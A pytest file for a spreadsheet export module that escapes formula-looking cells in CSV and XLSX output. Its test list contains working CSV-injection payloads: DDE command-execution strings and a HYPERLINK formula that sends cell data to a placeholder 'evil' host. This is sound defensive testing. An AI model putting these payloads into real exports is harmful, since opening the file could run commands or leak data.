"""Exported cells: never a formula, always readable, and the original again when the file is read back."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from onepoint.core.spreadsheets import as_written, harmless, writer_for

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?x="&A1,"Click")', "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "　=1+1", "\u200b=1+1", "\ufeff=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=", "+", "-", "@", "+86-571-88888888", "-1-1", "+1|2", "-=1",
]  # fmt: skip
READABLE = [
    "+8613800138000",
    "+86 571 88888888",
    "-12.5",
    "-3",
    "+7",
    "-15%",
    "13800138000",
    "王小明",
    "",
    "1=1",
    "a@b.cn",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_might_be_calculated_is_written_as_text(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert as_written(harmless(text)) == text


@pytest.mark.parametrize("text", READABLE)
def test_numbers_and_plain_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text
    assert as_written(text) == text


def test_an_apostrophe_people_wrote_stays() -> None:
    assert as_written("'n Beetje") == "'n Beetje"


ROW = ["TS1", "=1+1", 42, Decimal("1.50"), datetime(2026, 11, 22, 1, 30, tzinfo=UTC), date(2026, 1, 2), None, True]


def written(tmp_path: Path, file_format: str, rows: list[list]) -> Path:
    path = tmp_path / f"list.{file_format}"
    writer = writer_for(file_format, path, ["编号", "=标题"], title="工单/列表[1]")
    for row in rows:
        writer.write(row)
    writer.close()
    return path


def test_csv_opens_in_excel_and_reads_back(tmp_path: Path) -> None:
    path = written(tmp_path, "csv", [ROW])
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        head, row = csv.reader(file)
    assert head == ["编号", "'=标题"]
    assert row == ["TS1", "'=1+1", "42", "1.50", "2026-11-22 09:30:00", "2026-01-02", "", "True"]


def test_xlsx_holds_texts_numbers_and_moments_and_no_formula(tmp_path: Path) -> None:
    texts = [*FORMULAS, *READABLE, "<&>\"' 换行\n第二行", "控制\x00\x07符"]
    path = written(tmp_path, "xlsx", [ROW, *[[text] for text in texts]])
    workbook = CalamineWorkbook.from_path(str(path))
    (name,) = workbook.sheet_names
    rows = workbook.get_sheet_by_name(name).to_python()
    assert rows[0][:2] == ["编号", "=标题"]
    assert rows[1][:4] == ["TS1", "=1+1", 42, 1.5]
    assert rows[1][4] == datetime(2026, 11, 22, 9, 30)
    assert rows[1][5] == date(2026, 1, 2)
    for text, row in zip(texts[:-1], rows[2:], strict=False):
        assert str(row[0]).replace("\r", "") == text.replace("\r", "").replace("\x00", ""), repr(text)
    assert rows[-1][0] == "控制符"


def test_a_hundred_thousand_cells_take_little_memory(tmp_path: Path) -> None:
    """The file grows on disk, not in memory: what is held is a few hundred rows."""
    writer = writer_for("xlsx", tmp_path / "x.xlsx", ["a"])
    for number in range(10_000):
        writer.write([f"行{number}"] * 10)
    assert len(writer._rows) <= 200  # type: ignore[attr-defined]
    writer.close()
